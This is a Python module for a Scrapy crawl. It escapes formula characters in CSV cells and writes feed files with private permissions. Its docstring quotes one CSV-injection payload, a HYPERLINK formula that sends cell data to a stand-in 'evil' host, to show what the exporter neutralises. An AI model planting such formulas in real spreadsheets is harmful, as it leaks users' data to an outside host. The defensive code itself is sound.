"""How the crawl writes its feeds (``-O hits.csv``): no cell a spreadsheet runs, private files.

:class:`SafeCsvItemExporter` (``FEED_EXPORTERS["csv"]``) passes every text cell through
:func:`pipelines.safety.neutralise_csv_cell`: a post titled ``=HYPERLINK("https://evil/?"&A1)``
is written ``'=HYPERLINK(...)``, which a spreadsheet shows as text. :class:`PrivateFileFeedStorage`
(``FEED_STORAGES`` for local paths) creates feed files 0600 and missing directories 0700.
"""

from __future__ import annotations

from pathlib import Path
from typing import IO, TYPE_CHECKING, Any

from scrapy.exporters import CsvItemExporter
from scrapy.extensions.feedexport import FileFeedStorage

from pipelines.safety import neutralise_csv_cell, open_private, private_dir

if TYPE_CHECKING:
    from collections.abc import Mapping

    from scrapy import Spider
    from scrapy.item import Field

__all__ = ["PrivateFileFeedStorage", "SafeCsvItemExporter"]


class SafeCsvItemExporter(CsvItemExporter):
    """Scrapy's CSV exporter with formula characters neutralised at the start of each text cell.

    Lists (``reasons``, ``links``) are joined first, so the cell a spreadsheet reads is checked.
    Numbers stay numbers: only strings can carry a formula.
    """

    def serialize_field(self, field: Mapping[str, Any] | Field, name: str, value: Any) -> Any:
        serialized = super().serialize_field(field, name, value)
        return neutralise_csv_cell(serialized) if isinstance(serialized, str) else serialized


class PrivateFileFeedStorage(FileFeedStorage):
    """Scrapy's local-file feed storage, creating the file 0600 and missing directories 0700."""

    def open(self, spider: Spider) -> IO[bytes]:
        path = Path(self.path)
        private_dir(path.parent)
        return open_private(path, self.write_mode)
